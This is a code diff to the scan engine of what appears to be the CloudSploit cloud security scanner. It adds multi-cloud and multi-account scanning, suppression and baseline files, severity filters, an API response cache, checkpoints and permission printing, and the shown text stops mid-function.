@@ -1,11 +1,24 @@
 var async = require('async');
+var path = require('path');
 var exports = require('./exports.js');
 var suppress = require('./postprocess/suppress.js');
+var tagSuppress = require('./postprocess/tagsuppress.js');
+var baseline = require('./postprocess/baseline.js');
 var output = require('./postprocess/output.js');
+var pluginSettings = require('./helpers/settings.js');
+var severity = require('./helpers/severity.js');
+var selection = require('./helpers/selection.js');
+var collectionFile = require('./helpers/collection.js');
+var regionHelper = require('./helpers/regions.js');
+var checkpoint = require('./helpers/checkpoint.js');
+var apiCache = require('./helpers/cache.js');
+var callReport = require('./helpers/callreport.js');
+var permissions = require('./helpers/permissions.js');
+var pluginLoader = require('./helpers/plugins.js');
 var azureHelper = require('./helpers/azure/auth.js');
 
-function runAuth(settings, remediateConfig, callback) {
-    if (settings.cloud && settings.cloud == 'azure') {
+function runAuth(cloud, remediateConfig, callback) {
+    if (cloud == 'azure') {
         azureHelper.login(remediateConfig, function(err, loginData) {
             if (err) return (callback(err));
             remediateConfig.token = loginData.token;
@@ -43,108 +56,426 @@ async function uploadResultsToBlob(resultsObject, storageConnection, blobContain
     }
 }
 
+// The clouds whose collectors can serve API calls from the response cache
+var CACHED_CLOUDS = ['aws', 'azure', 'google'];
+
+// Scans covering several accounts (an AWS Organization, every Azure
+// subscription, the projects of a Google Cloud organization or folder or every
+// Oracle compartment) list the accounts of the cloud first and then collect
+// each of them
+function accountSource(cloud, settings) {
+    if (cloud == 'aws' && settings.aws_organization) return require('./collectors/aws/organization.js');
+    if (cloud == 'azure' && settings.azure_all_subscriptions) return require('./collectors/azure/subscriptions.js');
+    if (cloud == 'google' && (settings.gcp_org || settings.gcp_folder)) return require('./collectors/google/projects.js');
+    if (cloud == 'oracle' && settings.oracle_all_compartments) return require('./collectors/oracle/compartments.js');
+}
+
+// The plugins of every cloud scanned. Plugin IDs are only unique within a
+// cloud, so they are prefixed with the cloud when scanning several.
+function allPlugins(scans) {
+    if (scans.length === 1) return scans[0].plugins;
+
+    var plugins = {};
+    scans.forEach(function(scan) {
+        Object.keys(scan.plugins).forEach(function(pluginId) {
+            plugins[`${scan.cloud}/${pluginId}`] = scan.plugins[pluginId];
+        });
+    });
+    return plugins;
+}
+
 /**
  * The main function to execute CloudSploit scans.
- * @param cloudConfig The configuration for the cloud provider.
- * @param settings General purpose settings.
+ * @param cloudConfig The configuration for the cloud provider. When
+ * settings.clouds lists several clouds, the configuration of each cloud keyed
+ * by its name.
+ * @param settings General purpose settings. settings.logger receives the
+ * messages otherwise printed to the console.
+ * @param callback (Optional) Called once the scan is complete with an error
+ * that stopped it or a summary: the worst status of the results and the
+ * errors of the accounts that could not be scanned. The exit code of the
+ * process is only set when no callback is provided.
  */
-var engine = function(cloudConfig, settings) {
+var engine = function(cloudConfig, settings, callback) {
+    var log = settings.logger || console.log;
+    var debug = settings.logger || console.debug;
+    var done = callback || function() {};
+
+    // Reports an error that stops the scan
+    var fail = function(message) {
+        log(`ERROR: ${message}`);
+        done(new Error(message));
+    };
+
     // Initialize any suppression rules based on the the command line arguments
-    var suppressionFilter = suppress.create(settings.suppress);
+    // and the suppressions file
+    var suppressionRules = settings.suppress || [];
+    if (settings.suppressions) {
+        try {
+            suppressionRules = suppressionRules.concat(suppress.load(settings.suppressions));
+        } catch (e) {
+            return fail(`Suppressions file could not be loaded: ${e.message}`);
+        }
+    }
+    var suppressionFilter = suppress.create(suppressionRules);
 
-    // Initialize the output handler
-    var outputHandler = output.create(settings);
+    // Compare the results with those of a previous scan, if provided
+    var baselineDiff;
+    if (settings.baseline) {
+        try {
+            baselineDiff = baseline.create(baseline.load(settings.baseline));
+        } catch (e) {
+            return fail(`Baseline file could not be loaded: ${e.message}`);
+        }
+    }
+
+    // Each cloud is scanned with its own plugins, collector and collection.
+    // The results of every cloud go to the same outputs, tagged with their
+    // cloud when there are several.
+    var clouds = settings.clouds && settings.clouds.length ? settings.clouds : [settings.cloud];
+    var cloudConfigs = {};
+    if (settings.clouds && settings.clouds.length) {
+        cloudConfigs = cloudConfig;
+    } else {
+        cloudConfigs[settings.cloud] = cloudConfig;
+    }
+    settings.multi_cloud = clouds.length > 1;
+
+    var invalidCloud = clouds.find(function(cloud) {
+        return !exports[cloud];
+    });
+    if (invalidCloud) return fail(`Invalid cloud: ${invalidCloud}`);
+
+    // Plugins loaded from --plugin-dir run alongside the built-in plugins of
+    // their cloud
+    var customPlugins;
+    try {
+        customPlugins = pluginLoader.load(settings.plugin_dir);
+    } catch (e) {
+        return fail(e.message);
+    }
+    // The version 2 ASL of the built-in plugins is checked as well
+    var aslErrors = [];
+    clouds.forEach(function(cloud) {
+        aslErrors = aslErrors.concat(pluginLoader.validateAsl(exports[cloud]));
+    });
+    if (aslErrors.length) return fail(`Invalid ASL: ${aslErrors.join('; ')}`);
+
+    var cloudPlugins = function(cloud) {
+        return Object.assign({}, exports[cloud], customPlugins[cloud]);
+    };
+
+    var scans = clouds.map(function(cloud) {
+        // Load resource mappings
+        var resourceMap;
+        try {
+            resourceMap = require(`./helpers/${cloud}/resources.js`);
+        } catch (e) {
+            resourceMap = {};
+        }
 
-    // Configure Service Provider Collector
-    var collector = require(`./collectors/${settings.cloud}/collector.js`);
-    var plugins = exports[settings.cloud];
-    var apiCalls = [];
+        return {
+            cloud: cloud,
+            cloudConfig: cloudConfigs[cloud] || {},
+            plugins: cloudPlugins(cloud),
+            resourceMap: resourceMap,
+            apiCalls: [],
+            skippedPlugins: [],
+            accountSource: settings.from_collection ? null : accountSource(cloud, settings)
+        };
+    });
+
+    // A collection saved with --collection is analyzed without contacting the
+    // cloud provider
+    if (settings.from_collection) {
+        try {
+            scans.forEach(function(scan) {
+                scan.savedCollections = collectionFile.load(settings.from_collection, settings.multi_cloud ? scan.cloud : null);
+            });
+        } catch (e) {
+            return fail(`Collection file could not be loaded: ${e.message}`);
+        }
+    }
+    settings.multi_account = scans.some(function(scan) {
+        return !!scan.accountSource || !!(scan.savedCollections && scan.savedCollections[0].account);
+    });
+
+    // Only the regions allowed with --regions, minus those denied with
+    // --skip-regions, are collected. When scanning several clouds, each region
+    // only applies to the clouds it belongs to. The regions in the config file
+    // apply to their cloud only.
+    var cliRegions = regionHelper.parse(settings.regions);
+    var cliSkipRegions = regionHelper.parse(settings.skip_regions);
+    var unknownRegions = cliRegions.concat(cliSkipRegions).filter(function(region) {
+        return !scans.some(function(scan) {
+            return (regionHelper.all(scan.cloud) || []).indexOf(region) > -1;
+        });
+    });
+    if (unknownRegions.length) return fail(`Invalid region for ${clouds.join(', ')}: ${unknownRegions.join(', ')}`);
 
-    // Load resource mappings
-    var resourceMap;
     try {
-        resourceMap = require(`./helpers/${settings.cloud}/resources.js`);
+        scans.forEach(function(scan) {
+            var inCloud = function(region) {
+                return (regionHelper.all(scan.cloud) || []).indexOf(region) > -1;
+            };
+            var configRegions = (settings.region_filters || {})[scan.cloud] || {};
+            var allowedRegions = cliRegions.length ? cliRegions.filter(inCloud) : configRegions.regions;
+            scan.skipRegions = regionHelper.skipList(scan.cloud, allowedRegions,
+                cliSkipRegions.length ? cliSkipRegions.filter(inCloud) : configRegions.skip_regions);
+            // The regions are also passed on for the regions a collector
+            // finds that are not known yet, such as subscribed Oracle regions
+            if (scan.skipRegions) scan.regions = regionHelper.parse(allowedRegions);
+        });
     } catch (e) {
-        resourceMap = {};
+        return fail(e.message);
     }
 
+    if (settings.resume && !settings.checkpoint) return fail('--resume requires a --checkpoint directory');
+
+    // The API response cache, enabled by --cache-dir or --cache-ttl. Saved
+    // collections are not collected, so they do not use it.
+    var cacheOptions;
+    if ((settings.cache_dir || settings.cache_ttl) && !settings.no_cache && !settings.from_collection) {
+        cacheOptions = {
+            dir: settings.cache_dir || '.cloudsploit-cache',
+            ttl: settings.cache_ttl ? Number(settings.cache_ttl) : apiCache.DEFAULT_TTL,
+            refresh: settings.refresh,
+            log: log
+        };
+        if (!(cacheOptions.ttl > 0)) return fail(`Invalid cache TTL: ${settings.cache_ttl}. Expected a number of seconds`);
+    }
+
+    // Initialize the output handler
+    var outputHandler = output.create(settings);
+
     // Print customization options
-    if (settings.compliance) console.log(`INFO: Using compliance modes: ${settings.compliance.join(', ')}`);
-    if (settings.govcloud) console.log('INFO: Using AWS GovCloud mode');
-    if (settings.china) console.log('INFO: Using AWS China mode');
-    if (settings.ignore_ok) console.log('INFO: Ignoring passing results');
-    if (settings.skip_paginate) console.log('INFO: Skipping AWS pagination mode');
-    if (settings.suppress && settings.suppress.length) console.log('INFO: Suppressing results based on suppress flags');
-    if (settings.remediate && settings.remediate.length) console.log('INFO: Remediate the plugins mentioned here');
+    if (settings.multi_cloud) log(`INFO: Scanning clouds: ${clouds.join(', ')}`);
+    if (Object.keys(customPlugins).length) {
+        var customCount = Object.keys(customPlugins).reduce(function(count, cloud) {
+            return count + Object.keys(customPlugins[cloud]).length;
+        }, 0);
+        log(`INFO: Loaded ${customCount} plugins from: ${[].concat(settings.plugin_dir).join(', ')}`);
+    }
+    if (settings.compliance) log(`INFO: Using compliance modes: ${settings.compliance.join(', ')}`);
+    if (settings.govcloud) log('INFO: Using AWS GovCloud mode');
+    if (settings.china) log('INFO: Using AWS China mode');
+    if (settings.ignore_ok) log('INFO: Ignoring passing results');
+    if (settings.skip_paginate) log('INFO: Skipping AWS pagination mode');
+    if (cacheOptions) {
+        log(`INFO: ${cacheOptions.refresh ? 'Refreshing' : 'Using'} the API response cache in ${cacheOptions.dir} (TTL: ${cacheOptions.ttl} seconds)`);
+        if (scans.some(function(scan) { return CACHED_CLOUDS.indexOf(scan.cloud) === -1; })) log(`WARN: The API response cache is only supported for ${CACHED_CLOUDS.join(', ')}. Other clouds will be collected from scratch`);
+    }
+    if (settings.checkpoint && settings.from_collection) {
+        log('WARN: Checkpoints are not used when analyzing a saved collection and will be skipped');
+    } else if (settings.checkpoint) {
+        log(`INFO: Saving collected results to the checkpoint in ${settings.checkpoint}`);
+        if (scans.some(function(scan) { return scan.cloud != 'aws'; })) log('WARN: Checkpoints are only supported for AWS. Other clouds will be collected from scratch');
+    }
+    scans.forEach(function(scan) {
+        if (scan.skipRegions) log(`INFO: Skipping ${scan.skipRegions.length} of ${regionHelper.all(scan.cloud).length} ${scan.cloud} regions`);
+    });
+    if (settings.suppress && settings.suppress.length) log('INFO: Suppressing results based on suppress flags');
+    if (settings.suppressions) log(`INFO: Suppressing results based on ${suppressionRules.length - (settings.suppress || []).length} rules from ${settings.suppressions}`);
+    suppressionFilter.expired.forEach(function(rule) {
+        log(`WARN: Suppression ${rule.name} expired on ${rule.expires} and no longer applies`);
+    });
+    if (settings.suppress_tag) {
+        log(`INFO: Accepting the results of resources tagged ${settings.suppress_tag}`);
+        scans.forEach(function(scan) {
+            if (tagSuppress.CLOUDS.indexOf(scan.cloud) === -1) log(`WARN: Suppression tags are not supported for ${scan.cloud} and will be ignored`);
+        });
+    }
+    if (settings.remediate && settings.remediate.length) log('INFO: Remediate the plugins mentioned here');
     if (settings.plugin) {
-        if (!plugins[settings.plugin]) return console.log(`ERROR: Invalid plugin: ${settings.plugin}`);
-        console.log(`INFO: Testing plugin: ${plugins[settings.plugin].title}`);
+        var pluginScan = scans.find(function(scan) {
+            return scan.plugins[settings.plugin];
+        });
+        if (!pluginScan) return fail(`Invalid plugin: ${settings.plugin}`);
+        log(`INFO: Testing plugin: ${pluginScan.plugins[settings.plugin].title}`);
     }
 
+    // Validate plugin settings against the regex declared by each plugin
+    // before anything is collected
+    if (settings.plugin_settings && Object.keys(settings.plugin_settings).length) {
+        var validatedSettings = pluginSettings.validate(allPlugins(scans), settings.plugin_settings);
+        validatedSettings.unknown.forEach(function(key) {
+            log(`WARN: Unknown plugin setting: ${key}`);
+        });
+        if (validatedSettings.errors.length) {
+            validatedSettings.errors.forEach(function(error) {
+                log(`ERROR: ${error}`);
+            });
+            return done(new Error(validatedSettings.errors.join('; ')));
+        }
+        if (Object.keys(validatedSettings.settings).length) {
+            log(`INFO: Using plugin settings: ${Object.keys(validatedSettings.settings).join(', ')}`);
+            Object.assign(settings, validatedSettings.settings);
+        }
+    }
+
+    // Normalize the plugin severities before filtering on them
+    severity.normalizePlugins(allPlugins(scans)).forEach(function(warning) {
+        log(`WARN: ${warning}`);
+    });
+
+    var severityFilter;
+    var pluginFilter;
+    var failOn;
+    try {
+        severityFilter = severity.createFilter(settings.min_severity, settings.severities);
+        pluginFilter = selection.create(settings.include, settings.exclude);
+        if (settings.fail_on && settings.fail_on.length) failOn = severity.parseFailOn(settings.fail_on);
+    } catch (e) {
+        return fail(e.message);
+    }
+    if (settings.min_severity) log(`INFO: Only running plugins with severity ${severity.normalize(settings.min_severity)} or higher`);
+    if (settings.severities && settings.severities.length) log(`INFO: Only running plugins with severity: ${settings.severities.map(severity.normalize).join(', ')}`);
+    if (failOn) log(`INFO: Failing on results matching: ${settings.fail_on.join(', ')}`);
+    if (settings.include && settings.include.length) log(`INFO: Only running plugins matching: ${settings.include.join(', ')}`);
+    if (settings.exclude && settings.exclude.length) log(`INFO: Not running plugins matching: ${settings.exclude.join(', ')}`);
+
     // STEP 1 - Obtain API calls to make
-    console.log('INFO: Determining API calls to make...');
+    log('INFO: Determining API calls to make...');
 
-    var skippedPlugins = [];
+    scans.forEach(function(scan) {
+        Object.entries(scan.plugins).forEach(function(p){
+            var pluginId = p[0];
+            var plugin = p[1];
 
-    Object.entries(plugins).forEach(function(p){
-        var pluginId = p[0];
-        var plugin = p[1];
+            // Skip plugins that don't match the ID flag
+            var skip = false;
+            if (settings.plugin && settings.plugin !== pluginId) {
+                skip = true;
+            } else {
+                // Skip GitHub plugins that do not match the run type
+                if (scan.cloud == 'github') {
+                    if (scan.cloudConfig.organization &&
+                        plugin.types.indexOf('org') === -1) {
+                        skip = true;
+                        debug(`DEBUG: Skipping GitHub plugin ${plugin.title} because it is not for Organization accounts`);
+                    } else if (!scan.cloudConfig.organization &&
+                        plugin.types.indexOf('org') === -1) {
+                        skip = true;
+                        debug(`DEBUG: Skipping GitHub plugin ${plugin.title} because it is not for User accounts`);
+                    }
+                }
 
-        // Skip plugins that don't match the ID flag
-        var skip = false;
-        if (settings.plugin && settings.plugin !== pluginId) {
-            skip = true;
-        } else {
-            // Skip GitHub plugins that do not match the run type
-            if (settings.cloud == 'github') {
-                if (cloudConfig.organization &&
-                    plugin.types.indexOf('org') === -1) {
-                    skip = true;
-                    console.debug(`DEBUG: Skipping GitHub plugin ${plugin.title} because it is not for Organization accounts`);
-                } else if (!cloudConfig.organization &&
-                    plugin.types.indexOf('org') === -1) {
+                if (settings.compliance && settings.compliance.length) {
+                    if (!plugin.compliance || !Object.keys(plugin.compliance).length) {
+                        skip = true;
+                        debug(`DEBUG: Skipping plugin ${plugin.title} because it is not used for compliance programs`);
+                    } else {
+                        // Compare
+                        var cMatch = false;
+                        settings.compliance.forEach(function(c){
+                            if (plugin.compliance[c]) cMatch = true;
+                        });
+                        if (!cMatch) {
+                            skip = true;
+                            debug(`DEBUG: Skipping plugin ${plugin.title} because it did not match compliance programs ${settings.compliance.join(', ')}`);
+                        }
+                    }
+                }
+
+                if (!skip && !severityFilter(plugin.severity)) {
                     skip = true;
-                    console.debug(`DEBUG: Skipping GitHub plugin ${plugin.title} because it is not for User accounts`);
+                    debug(`DEBUG: Skipping plugin ${plugin.title} because its severity ${plugin.severity} was not selected`);
                 }
+
+                // Skip plugins that don't match the include and exclude filters
+                if (!skip && !pluginFilter(pluginId, plugin)) skip = true;
             }
 
-            if (settings.compliance && settings.compliance.length) {
-                if (!plugin.compliance || !Object.keys(plugin.compliance).length) {
-                    skip = true;
-                    console.debug(`DEBUG: Skipping plugin ${plugin.title} because it is not used for compliance programs`);
-                } else {
-                    // Compare
-                    var cMatch = false;
-                    settings.compliance.forEach(function(c){
-                        if (plugin.compliance[c]) cMatch = true;
+            if (skip) {
+                scan.skippedPlugins.push(pluginId);
+            } else {
+                plugin.apis.forEach(function(api) {
+                    if (scan.apiCalls.indexOf(api) === -1) scan.apiCalls.push(api);
+                });
+                // add the remediation api calls also for data to be collected
+                if (settings.remediate && settings.remediate.includes(pluginId)){
+                    plugin.apis_remediate.forEach(function(api) {
+                        if (scan.apiCalls.indexOf(api) === -1) scan.apiCalls.push(api);
                     });
-                    if (!cMatch) {
-                        skip = true;
-                        console.debug(`DEBUG: Skipping plugin ${plugin.title} because it did not match compliance programs ${settings.compliance.join(', ')}`);
-                    }
                 }
             }
-        }
+        });
+    });
 
-        if (skip) {
-            skippedPlugins.push(pluginId);
-        } else {
-            plugin.apis.forEach(function(api) {
-                if (apiCalls.indexOf(api) === -1) apiCalls.push(api);
+    // The suppression tags of AWS resources, and the tags matched by
+    // suppression rules, are read from the tagging API
+    if (settings.suppress_tag || suppressionFilter.usesTags) {
+        scans.forEach(function(scan) {
+            if (scan.cloud == 'aws' && scan.apiCalls.length && scan.apiCalls.indexOf(tagSuppress.AWS_TAGS_CALL) === -1) {
+                scan.apiCalls.push(tagSuppress.AWS_TAGS_CALL);
+            }
+        });
+    }
+
+    if (settings.list_plugins) {
+        scans.forEach(function(scan) {
+            var selectedPlugins = Object.keys(scan.plugins).filter(function(pluginId) {
+                return scan.skippedPlugins.indexOf(pluginId) === -1;
+            });
+            log(`INFO: ${selectedPlugins.length} of ${Object.keys(scan.plugins).length} ${scan.cloud} plugins would run:`);
+            selectedPlugins.forEach(function(pluginId) {
+                var plugin = scan.plugins[pluginId];
+                log(`  ${pluginId} - ${plugin.title} (${plugin.category}, ${selection.service(plugin) || 'N/A'}, ${plugin.severity})`);
+            });
+            log(`INFO: ${scan.apiCalls.length} API calls are required:`);
+            scan.apiCalls.forEach(function(api) {
+                log(`  ${api}`);
             });
-            // add the remediation api calls also for data to be collected
-            if (settings.remediate && settings.remediate.includes(pluginId)){
-                plugin.apis_remediate.forEach(function(api) {
-                    if (apiCalls.indexOf(api) === -1) apiCalls.push(api);
+        });
+        return done();
+    }
+
+    if (settings.print_permissions) {
+        scans.forEach(function(scan) {
+            if (permissions.CLOUDS.indexOf(scan.cloud) === -1) {
+                return log(`WARN: Printing permissions is not supported for ${scan.cloud}`);
+            }
+
+            // Plugins selected for remediation also need their remediation permissions
+            var remediate = [];
+            Object.keys(scan.plugins).forEach(function(pluginId) {
+                var plugin = scan.plugins[pluginId];
+                if (scan.skippedPlugins.indexOf(pluginId) > -1 || !settings.remediate ||
+                    !settings.remediate.includes(pluginId) || !plugin.permissions) return;
+                (plugin.permissions.remediate || []).forEach(function(permission) {
+                    if (remediate.indexOf(permission) === -1) remediate.push(permission);
                 });
+            });
+
+            var result = permissions.build(scan.cloud, scan.apiCalls, remediate);
+            var kind = {aws: 'IAM policy', azure: 'custom role definition', google: 'custom role'}[scan.cloud];
+            log(`INFO: The ${result.calls.length} ${scan.cloud} API calls of the selected plugins require the following ${kind}:`);
+            log(JSON.stringify(result.document, null, 4));
+            if (result.graph && result.graph.length) {
+                log(`INFO: The following Microsoft Graph application permissions are also required: ${result.graph.join(', ')}`);
             }
-        }
-    });
+            if (result.unresolved.length) {
+                log(`WARN: No permissions could be derived for ${result.unresolved.join(', ')}. Grant them manually.`);
+            }
+        });
+        return done();
+    }
 
-    if (!apiCalls.length) return console.log('ERROR: Nothing to collect.');
+    // Clouds none of the selected plugins apply to are not collected
+    scans = scans.filter(function(scan) {
+        if (!scan.apiCalls.length && settings.multi_cloud) log(`INFO: No ${scan.cloud} plugins to run`);
+        return scan.apiCalls.length;
+    });
+    if (!scans.length) return fail('Nothing to collect.');
 
-    console.log(`INFO: Found ${apiCalls.length} API calls to make for ${settings.cloud} plugins`);
-    console.log('INFO: Collecting metadata. This may take several minutes...');
+    if (settings.from_collection) {
+        log(`INFO: Analyzing the collection saved in ${settings.from_collection}`);
+    } else {
+        scans.forEach(function(scan) {
+            log(`INFO: Found ${scan.apiCalls.length} API calls to make for ${scan.cloud} plugins`);
+        });
+        log('INFO: Collecting metadata. This may take several minutes...');
+    }
 
     const initializeFile = function(file, type, testQuery, resource) {
         if (!file['access']) file['access'] = {};
@@ -164,40 +495,85 @@ var engine = function(cloudConfig, settings) {
         return file;
     };
 
-    // STEP 2 - Collect API Metadata from Service Providers
-    collector(cloudConfig, {
-        api_calls: apiCalls,
-        paginate: settings.skip_paginate,
-        govcloud: settings.govcloud,
-        china: settings.china
-    }, function(err, collection) {
-        if (err || !collection || !Object.keys(collection).length) return console.log(`ERROR: Unable to obtain API metadata: ${err || 'No data returned'}`);
-        outputHandler.writeCollection(collection, settings.cloud);
+    var maximumStatus = 0;
+    var resultsObject = {};  // Initialize resultsObject for azure gov cloud
+    var changeCounts = {NEW: 0, UNCHANGED: 0, STATUS_CHANGED: 0, RESOLVED: 0};
+    var scanErrors = [];  // The accounts, clouds or plugins that could not be scanned
 
-        console.log('INFO: Metadata collection complete. Analyzing...');
-        console.log('INFO: Analysis complete. Scan report to follow...');
+    // With a baseline, only results that are new or got worse since the
+    // previous scan affect the exit code. With --fail-on, only results
+    // matching one of its expressions do.
+    var affectsExitCode = function(result, plugin) {
+        if (failOn && !failOn(result.status, plugin.severity)) return false;
+        return !baselineDiff || result.change === 'NEW' || result.status > result.previousStatus;
+    };
 
-        var maximumStatus = 0;
-        var resultsObject = {};  // Initialize resultsObject for azure gov cloud
+    // Names the cloud and account a message is about, when the scan covers
+    // several of them
+    var scanTarget = function(scan, account) {
+        var target = [];
+        if (settings.multi_cloud) target.push(scan.cloud);
+        if (account) target.push(`account ${account}`);
+        return target.length ? ` for ${target.join(' ')}` : '';
+    };
+
+    // STEP 3 - Run the plugins against the collected metadata. When scanning
+    // an organization, this runs once per account.
+    var analyzeCollection = function(scan, collection, accountConfig, account, scanDone) {
+        var plugins = scan.plugins;
+
+        // The results of resources tagged to suppress them are accepted
+        var tagFilter;
+        if (settings.suppress_tag && tagSuppress.CLOUDS.indexOf(scan.cloud) > -1) {
+            tagFilter = tagSuppress.create(scan.cloud, collection, settings.suppress_tag);
+            log(`INFO: Found ${tagFilter.resources} resources tagged ${settings.suppress_tag}${scanTarget(scan, account)}`);
+        }
+        var resourceTags = suppressionFilter.usesTags ? tagSuppress.tags(scan.cloud, collection) : function() {};
 
         function executePlugins(cloudRemediateConfig) {
             async.mapValuesLimit(plugins, 10, function(plugin, key, pluginDone) {
-                if (skippedPlugins.indexOf(key) > -1) return pluginDone(null, 0);
+                if (scan.skippedPlugins.indexOf(key) > -1) return pluginDone(null, 0);
                 var postRun = function(err, results) {
-                    if (err) return console.log(`ERROR: ${err}`);
+                    // A plugin that failed is reported and skipped, so that
+                    // the other plugins still run
+                    if (err) {
+                        log(`ERROR: Plugin ${plugin.title}${scanTarget(scan, account)}: ${err}`);
+                        scanErrors.push({cloud: scan.cloud, account: account, plugin: key, message: String(err)});
+                        return setTimeout(function() { pluginDone(null, 0); }, 0);
+                    }
                     if (!results || !results.length) {
-                        console.log(`Plugin ${plugin.title} returned no results. There may be a problem with this plugin.`);
+                        log(`Plugin ${plugin.title} returned no results. There may be a problem with this plugin.`);
                     } else {
                         if (!resultsObject[plugin.title]) {
                             resultsObject[plugin.title] = [];
                         }
                         for (var r in results) {
-                            // If we have suppressed this result, then don't process it
-                            // so that it doesn't affect the return code.
-                            if (suppressionFilter([key, results[r].region || 'any', results[r].resource || 'any'].join(':'))) {
-                                continue;
-                            }
-    
+                            // Suppressed results are reported with the rule that
+                            // suppressed them, but don't affect the return code.
+                            var suppression = suppressionFilter.match([key, results[r].region || 'any', results[r].resource || 'any'].join(':'), {
+                                plugin: key,
+                                region: results[r].region,
+                                resource: results[r].resource,
+                                category: plugin.category,
+                                severity: plugin.severity,
+                                message: results[r].message,
+                                tags: resourceTags(results[r].resource)
+                            });
+                            if (suppression) results[r].suppressed = suppression;
+
+                            if (settings.multi_cloud) results[r].cloud = scan.cloud;
+                            if (account) results[r].account = account;
+
+                            // Accepted results are reported apart from the others and,
+                            // like suppressed results, don't affect the return code
+                            var acceptance = !suppression && tagFilter && results[r].status !== 0 && tagFilter(key, results[r].resource);
+                            if (acceptance) results[r].accepted = acceptance;
+
+                            var counted = !suppression && !acceptance;
+                            // With --ignore-ok, passing results are not reported nor
+                            // compared, so the previous results they fix are RESOLVED
+                            var compared = counted && !(settings.ignore_ok && results[r].status === 0);
+                            if (baselineDiff && compared) changeCounts[baselineDiff.compare(results[r], key, account)] += 1;
                             resultsObject[plugin.title].push(results[r]);
 
                             var complianceMsg = [];
@@ -210,15 +586,17 @@ var engine = function(cloudConfig, settings) {
                             }
                             complianceMsg = complianceMsg.join('; ');
                             if (!complianceMsg.length) complianceMsg = null;
-    
+
                             // Write out the result (to console or elsewhere)
                             outputHandler.writeResult(results[r], plugin, key, complianceMsg);
-    
+
                             // Add this to our tracking for the worst status to calculate
                             // the exit code
-                            maximumStatus = Math.max(maximumStatus, results[r].status);
+                            if (counted && affectsExitCode(results[r], plugin)) {
+                                maximumStatus = Math.max(maximumStatus, results[r].status);
+                            }
                             // Remediation
-                            if (settings.remediate && settings.remediate.length) {
+                            if (settings.remediate && settings.remediate.length && counted) {
                                 if (settings.remediate.indexOf(key) > -1) {
                                     if (results[r].status === 2) {
                                         var resource = results[r].resource;
@@ -227,20 +605,20 @@ var engine = function(cloudConfig, settings) {
                                         event['remediation_file'] = {};
                                         event['remediation_file'] = initializeFile(event['remediation_file'], 'execute', key, resource);
                                         plugin.remediate(cloudRemediateConfig, collection, event, resource, (err, result) => {
-                                            if (err) return console.log(err);
-                                            return console.log(result);
+                                            if (err) return log(err);
+                                            return log(result);
                                         });
                                     }
                                 }
                             }
                         }
-    
+
                     }
                     setTimeout(function() { pluginDone(err, maximumStatus); }, 0);
                 };
-    
+
                 if (plugin.asl && settings['run-asl']) {
-                    console.log(`INFO: Using custom ASL for plugin: ${plugin.title}`);
+                    log(`INFO: Using custom ASL for plugin: ${plugin.title}`);
                     // Inject APIs and resource maps
                     plugin.asl.apis = plugin.apis;
                     var aslConfig = require('./helpers/asl/config.json');
@@ -248,40 +626,229 @@ var engine = function(cloudConfig, settings) {
                     let aslRunner;
                     try {
                         aslRunner = require(`./helpers/asl/asl-${aslVersion}.js`);
-    
+
                     } catch (e) {
-                        postRun('Error: ASL: Wrong ASL Version: ', e);
+                        return postRun(`Error: ASL: Wrong ASL Version: ${aslVersion}`);
                     }
-    
-                    aslRunner(collection, plugin.asl, resourceMap, postRun);
+
+                    aslRunner(collection, plugin.asl, scan.resourceMap, scan.cloud, account, postRun);
                 } else {
                     plugin.run(collection, settings, postRun);
                 }
             }, function(err) {
-                if (err) return console.log(err);
-
-                if (cloudConfig.StorageConnection && cloudConfig.BlobContainer) uploadResultsToBlob(resultsObject, cloudConfig.StorageConnection, cloudConfig.BlobContainer);
-                // console.log(JSON.stringify(collection, null, 2));
-                outputHandler.close();
-                if (settings.exit_code) {
-                    // The original cloudsploit always has a 0 exit code. With this option, we can have
-                    // the exit code depend on the results (useful for integration with CI systems)
-                    console.log(`INFO: Exiting with exit code: ${maximumStatus}`);
-                    process.exitCode = maximumStatus;
+                scanDone(err);
+            });
+        }
+
+        if (settings.remediate && settings.remediate.length && accountConfig.remediate) {
+            runAuth(scan.cloud, accountConfig.remediate, function(err) {
+                if (err) return scanDone(err);
+                executePlugins(accountConfig.remediate);
+            });
+        } else {
+            executePlugins(accountConfig);
+        }
+    };
+
+    // STEP 2 - Collect API Metadata from Service Providers
+    var collectAccount = function(scan, accountConfig, account, scanDone) {
+        var collector = require(`./collectors/${scan.cloud}/collector.js`);
+
+        // Each account of each cloud has its own checkpoint directory
+        var accountCheckpoint;
+        if (settings.checkpoint && scan.cloud == 'aws') {
+            try {
+                accountCheckpoint = checkpoint.create(path.join(settings.checkpoint,
+                    settings.multi_cloud ? scan.cloud : '', account || ''), settings.resume);
+            } catch (e) {
+                return scanDone(`Unable to open the checkpoint${scanTarget(scan, account)}: ${e.message}`);
+            }
+            if (settings.resume) log(`INFO: Resuming from the checkpoint${scanTarget(scan, account)}: ${accountCheckpoint.count} results already collected`);
+        }
+
+        // Accounts scanned without an account ID, such as a single account
+        // using the default credential chain, are cached by the account
+        // their credentials resolve to
+        var openCache = function(cacheDone) {
+            if (!cacheOptions || CACHED_CLOUDS.indexOf(scan.cloud) === -1) return cacheDone();
+
+            var open = function(id) {
+                try {
+                    cacheDone(null, apiCache.create(path.join(cacheOptions.dir, scan.cloud, id), cacheOptions));
+                } catch (e) {
+                    cacheDone(`Unable to open the API response cache${scanTarget(scan, account)}: ${e.message}`);
+                }
+            };
+            if (account) return open(String(account));
+
+            apiCache.identity(scan.cloud, accountConfig, settings, function(err, id) {
+                if (err) {
+                    log(`WARN: Not using the API response cache${scanTarget(scan)}: ${err}`);
+                    return cacheDone();
                 }
-                console.log('INFO: Scan complete');
+                open(id);
             });
+        };
+
+        openCache(function(cacheErr, accountCache) {
+            if (cacheErr) return scanDone(cacheErr);
+
+            collector(accountConfig, {
+                api_calls: scan.apiCalls,
+                skip_regions: scan.skipRegions,
+                regions: scan.regions,
+                paginate: settings.skip_paginate,
+                govcloud: settings.govcloud,
+                china: settings.china,
+                oracle_all_compartments: settings.oracle_all_compartments,
+                checkpoint: accountCheckpoint,
+                cache: accountCache,
+                onResult: function(service, call, region, result) {
+                    outputHandler.writeCollectionResult([service, call, region], result, scan.cloud, account);
+                }
+            }, function(err, collection, runApiCalls, errorSummary, errorTypeSummary, errors, retries, durations) {
+                if (accountCache && Object.keys(accountCache.hits).length) {
+                    log(`INFO: Served from the API response cache${scanTarget(scan, account)}: ${Object.keys(accountCache.hits).sort().map(function(call) {
+                        return `${call} (${accountCache.hits[call]})`;
+                    }).join(', ')}`);
+                }
+                if (err || !collection || !Object.keys(collection).length) return scanDone(`Unable to obtain API metadata${scanTarget(scan, account)}: ${err || 'No data returned'}`);
